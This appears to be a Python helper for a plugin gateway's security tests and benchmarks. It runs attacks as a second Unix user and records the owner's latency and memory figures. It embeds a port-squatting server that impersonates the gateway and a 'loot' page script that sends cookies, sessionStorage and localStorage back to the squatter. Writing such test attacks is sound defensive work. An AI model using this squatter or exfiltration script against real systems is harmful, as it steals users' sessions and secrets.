"""A neighbour's attacks (benchmarks/bench_neighbour.py, run as a second Unix user with the system's Python) and
the owner's figures while they run: plugins started (all of N), small-call latencies, gateway RSS and log growth.
Shared by tests/test_security_doors.py and benchmarks/bench_neighbour.py's owner side."""

from __future__ import annotations

import asyncio
import json
import os
import pwd
import statistics
import subprocess
import time
import uuid
from dataclasses import dataclass, field
from typing import Iterator
from pathlib import Path

import psutil

NEIGHBOUR_PYTHON = "/usr/bin/python3"  # the system's Python: the neighbour cannot read root's virtualenv
ATTACK_SCRIPT = Path(__file__).resolve().parents[1] / "benchmarks" / "bench_neighbour.py"
MARK = "@@bench-load "


def make_user() -> str:
    """A new Unix user without a home (the caller deletes it with delete_user)."""
    name = f"ihpcnb{uuid.uuid4().hex[:8]}"
    subprocess.run(["useradd", "--no-create-home", "--shell", "/usr/sbin/nologin", name], check=True, timeout=30)
    return name


def delete_user(name: str) -> None:
    subprocess.run(["userdel", name], check=True, timeout=30)


def start_attack(user: str, cfg: dict) -> subprocess.Popen:
    """One attack of bench_neighbour.ATTACKS, run as `user` (a child of ours, stopped by its PID)."""
    entry = pwd.getpwnam(user)
    proc = subprocess.Popen([NEIGHBOUR_PYTHON, str(ATTACK_SCRIPT)], user=entry.pw_uid, group=entry.pw_gid,
                            extra_groups=[], cwd="/", env={"PATH": "/usr/bin:/bin"}, stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    proc.stdin.write(json.dumps(cfg) + "\n")
    proc.stdin.flush()
    return proc


def _result_line(proc: subprocess.Popen) -> dict:
    for line in proc.stdout:
        if line.startswith(MARK):
            event = json.loads(line[len(MARK):])
            if event["event"] == "result":
                return event
    raise AssertionError(f"the attack ended without a result: {proc.stderr.read()[-2000:]}")


async def attack_result(proc: subprocess.Popen, timeout: float) -> dict:
    """The attack's result; the process is stopped (by its PID) whatever happens."""
    try:
        return await asyncio.wait_for(asyncio.to_thread(_result_line, proc), timeout)
    finally:
        if proc.poll() is None:
            proc.kill()
        proc.wait(30)


def plugin_source(name: str) -> str:
    return f"""<config lang="json">{{"name": "{name}", "type": "native-python"}}</config>
<script lang="python">
class P:
    def add(self, a, b):
        return a + b
api.export(P())
</script>"""


def p99(values: list[float]) -> float:
    return sorted(values)[max(0, int(len(values) * 0.99) - 1)] if values else float("nan")


@dataclass
class OwnerFigures:
    """What the owner saw during one phase."""

    started: int = 0
    wanted: int = 0
    start_seconds: float = 0.0
    failures: list[str] = field(default_factory=list)
    latencies_ms: list[float] = field(default_factory=list)
    rss_growth_mb: float = 0.0
    log_lines: int = 0

    def row(self) -> dict:
        lat = self.latencies_ms
        return {"plugins": f"{self.started}/{self.wanted}", "start_s": round(self.start_seconds, 1),
                "calls": len(lat), "p50_ms": round(statistics.median(lat), 2) if lat else None,
                "p99_ms": round(p99(lat), 2) if lat else None, "rss_mb": round(self.rss_growth_mb, 1),
                "log_lines": self.log_lines, "failures": self.failures[:3]}


async def owner_phase(client, gw, busy: "asyncio.Future | None", plugins: int, tag: str, *, calls: int = 3000,
                      seconds: float = 60.0) -> OwnerFigures:
    """The owner starts `plugins` plugins and makes small calls (at most `calls`, for at most `seconds`, and at
    least until `busy` is done), then stops those plugins; returns its figures."""
    figures = OwnerFigures(wanted=plugins)
    process = psutil.Process(gw.proc.pid)
    rss_before, log_before = process.memory_info().rss, gw.log().count("\n")
    probe = await client.load_plugin(plugin_source(f"Owner probe {tag}"))
    started = time.monotonic()
    loads = await asyncio.gather(*(client.load_plugin(plugin_source(f"Owner {tag} {i}")) for i in range(plugins)),
                                 return_exceptions=True)
    figures.start_seconds = time.monotonic() - started
    figures.started = sum(not isinstance(x, BaseException) for x in loads)
    figures.failures = [str(x)[:200] for x in loads if isinstance(x, BaseException)]
    end = time.monotonic() + seconds
    for i in range(calls):
        t = time.perf_counter()
        assert await probe.add(i, 1) == i + 1
        figures.latencies_ms.append((time.perf_counter() - t) * 1000)
        if time.monotonic() > end or (busy is not None and busy.done() and i >= 200):
            break
        await asyncio.sleep(0.002)
    if busy is not None:
        await busy
    figures.rss_growth_mb = (process.memory_info().rss - rss_before) / 2**20
    figures.log_lines = gw.log().count("\n") - log_before
    for info in await client.list_instances():
        if str(info.get("name", "")).startswith(("Owner ", "Owner probe")) and info.get("state") not in (
                "stopped", "failed", "killed"):
            try:
                await client.kill_plugin(info["id"])
            except Exception:  # noqa: BLE001 - already ending
                pass
    return figures


def door_port(gw) -> int:
    """The plugin door's port (from the gateway's state file)."""
    return int(json.loads((gw.state_dir / "gateway.json").read_text())["plugin_door"].rsplit(":", 1)[1])


def open_descriptors(gw) -> int:
    return len(os.listdir(f"/proc/{gw.proc.pid}/fd"))


# A squatter: binds the port of a gateway that died and answers as a socket.io server would (engine.io open,
# socket.io connect, acks to every event), recording every frame it is sent. Standard library only.
SQUATTER = r'''
import base64, hashlib, json, socket, sys, threading
port, seconds = int(sys.argv[1]), float(sys.argv[2])
server = socket.socket()
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(("127.0.0.1", port))
server.listen(16)
server.settimeout(seconds)
print(json.dumps({"bound": port}), flush=True)
GUID = "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"

def frame(text):
    data = text.encode()
    head = bytes([0x81, len(data)]) if len(data) < 126 else bytes([0x81, 126]) + len(data).to_bytes(2, "big")
    return head + data

def read_frame(f):
    b0, b1 = f.read(2)
    n = b1 & 0x7F
    if n == 126: n = int.from_bytes(f.read(2), "big")
    elif n == 127: n = int.from_bytes(f.read(8), "big")
    mask = f.read(4) if b1 & 0x80 else b"\0\0\0\0"
    data = bytes(c ^ mask[i % 4] for i, c in enumerate(f.read(n)))
    return b0 & 0x0F, data.decode(errors="replace")

LOOT_PAGE = """<!doctype html><script>
fetch("/loot?" + encodeURIComponent(JSON.stringify({session: Object.assign({}, sessionStorage),
  local: Object.assign({}, localStorage), hash: location.hash, cookie: document.cookie})));
</script>"""

def send(conn, kind, text):
    body = text.encode()
    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: " + kind.encode() + b"\r\nAccess-Control-Allow-Origin: *\r\n"
                 b"Connection: close\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
    conn.close()

def serve(conn):
    f = conn.makefile("rb")
    request = b""
    while not request.endswith(b"\r\n\r\n"):
        request += f.read(1)
    print(json.dumps({"request": request.decode(errors="replace")}), flush=True)
    keys = [l.split(":", 1)[1].strip() for l in request.decode().split("\r\n") if l.lower().startswith("sec-websocket-key")]
    if not keys and request.split(b" ")[1].split(b"?")[0] in (b"/", b"/console"):
        # a reloaded tab: a page of the squatter's own on the gateway's origin, sending back what the tab keeps
        return send(conn, "text/html", LOOT_PAGE)
    if not keys:  # plain HTTP (a challenge, long-polling, the loot): an answer that proves nothing
        return send(conn, "application/json", json.dumps({
            "success": True, "server_nonce": "x" * 16 + "." + "0" * 32, "process": "squat", "proof": "0" * 64,
            "tab_proof": "0" * 64}))
    key = keys[0]
    accept = base64.b64encode(hashlib.sha1((key + GUID).encode()).digest()).decode()
    conn.sendall(("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                  f"Sec-WebSocket-Accept: {accept}\r\n\r\n").encode())
    conn.sendall(frame('0{"sid":"sq","upgrades":[],"pingInterval":25000,"pingTimeout":20000,"maxPayload":1000000}'))
    while True:
        opcode, text = read_frame(f)
        print(json.dumps({"frame": text}), flush=True)
        if opcode == 8:
            return
        if text.startswith("40"):
            conn.sendall(frame('40{"sid":"sq2"}'))
        elif text.startswith("42"):
            digits = "".join(c for c in text[2:8] if c.isdigit())
            ack = text[2:2 + len(digits)] if text[2:3].isdigit() else ""
            if ack:
                reply = {"success": True, "server_nonce": "x" * 32, "proof": "0" * 64}
                conn.sendall(frame("43" + ack + json.dumps([reply])))

try:
    while True:
        conn, _ = server.accept()
        threading.Thread(target=serve, args=(conn,), daemon=True).start()
except (socket.timeout, OSError):
    pass
'''


def second_user() -> Iterator[str]:
    """A second Unix user for a test's fixture (created here, deleted afterwards); fails (CI) or skips without
    root or the system Python."""
    from support import require

    require(os.geteuid() == 0 and os.path.exists("/usr/sbin/useradd"), "root with useradd",
            "run the tests as root (they create and delete a Unix user)")
    require(os.path.exists(NEIGHBOUR_PYTHON), "the system Python", "apt-get install python3")
    name = make_user()
    try:
        yield name
    finally:
        delete_user(name)
